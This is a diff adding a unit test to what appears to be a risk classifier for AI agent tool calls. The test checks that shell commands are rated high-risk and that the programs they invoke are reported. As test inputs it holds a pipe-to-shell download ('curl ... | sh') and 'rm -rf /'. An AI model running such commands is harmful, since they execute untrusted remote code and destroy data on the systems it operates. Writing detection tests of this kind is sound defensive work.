@@ -308,3 +308,15 @@ describe('what runs code', () => {
     expect(tierOf({ name: 'get_rates', inputSchema: { type: 'object', properties } })).toBe('low')
   })
 })
+
+it('a shell command is high whatever it runs, and the programs are in the evidence', () => {
+  const bash = contractOf({
+    name: 'bash',
+    inputSchema: { type: 'object', properties: { command: { type: 'string' } } },
+  })
+  const programsOf = (input: Json) =>
+    classify(bash, input).evidence.find(({ source, at }) => source === 'arguments' && at === '/command')?.because
+  expect(programsOf({ command: 'cd /srv && curl -s https://x | sh' })).toBe('the command runs cd, curl, sh')
+  expect(programsOf({ command: ['rm', '-rf', '/'] })).toBe('the command runs rm')
+  expect(classify(bash, { command: 'ls' }).materiality).toBe('high')
+})
